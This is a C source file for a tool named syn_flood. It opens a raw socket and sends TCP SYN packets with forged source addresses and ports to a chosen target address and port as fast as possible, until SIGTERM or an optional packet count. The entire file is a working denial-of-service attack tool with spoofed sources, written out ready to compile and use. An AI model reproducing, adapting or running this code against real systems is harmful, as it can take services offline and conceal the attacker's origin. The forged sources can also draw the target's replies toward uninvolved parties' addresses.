/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Sends SYNs with invented source addresses, as fast as it can, until SIGTERM or --count are sent.
 *
 *   syn_flood [--count N] FIRST-SOURCE ADDRESS PORT
 *
 * Sources are the 256 addresses from FIRST-SOURCE on, with all ports. Needs root. Prints "sent=N".
 */
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static volatile sig_atomic_t ending;

static void end(int signal)
{
	(void)signal;
	ending = 1;
}

/* Over pseudo header and TCP header. */
static uint16_t tcp_sum(const struct syn *syn)
{
	const uint8_t *bytes = (const uint8_t *)&syn->tcp;
	uint32_t sum = IPPROTO_TCP + sizeof(syn->tcp);

	for (size_t i = 0; i < sizeof(syn->tcp); i += 2)
		sum += bytes[i] << 8 | bytes[i + 1];
	sum += (ntohl(syn->ip.saddr) >> 16) + (ntohl(syn->ip.saddr) & 0xffff);
	sum += (ntohl(syn->ip.daddr) >> 16) + (ntohl(syn->ip.daddr) & 0xffff);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	struct syn syn = {
		.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP},
		.tcp = {.doff = 5, .syn = 1},
	};
	unsigned long count = 0, sent = 0;
	struct in_addr first;
	int descriptor;

	if (argc > 2 && strcmp(argv[1], "--count") == 0) {
		count = strtoul(argv[2], NULL, 10);
		argc -= 2;
		argv += 2;
	}
	if (argc != 4 || inet_pton(AF_INET, argv[1], &first) != 1 ||
	    inet_pton(AF_INET, argv[2], &to.sin_addr) != 1)
		errx(2, "usage: syn_flood [--count N] FIRST-SOURCE ADDRESS PORT");
	to.sin_port = htons(strtoul(argv[3], NULL, 10));
	signal(SIGTERM, end);
	descriptor = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (descriptor < 0)
		err(2, "a raw socket");
	syn.ip.daddr = to.sin_addr.s_addr;
	syn.tcp.dest = to.sin_port;
	for (uint32_t number = 1; !ending && (!count || sent < count); number++) {
		syn.ip.saddr = htonl(ntohl(first.s_addr) + (number & 255));
		syn.tcp.source = htons(1024 + number % 64000);
		syn.tcp.seq = htonl(number * 2654435761u);
		syn.tcp.check = 0;
		syn.tcp.check = tcp_sum(&syn);
		if (sendto(descriptor, &syn, sizeof(syn), 0, (struct sockaddr *)&to, sizeof(to)) ==
		    sizeof(syn))
			sent++;
		else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
			err(1, "sending");
	}
	printf("sent=%lu\n", sent);
	return 0;
}
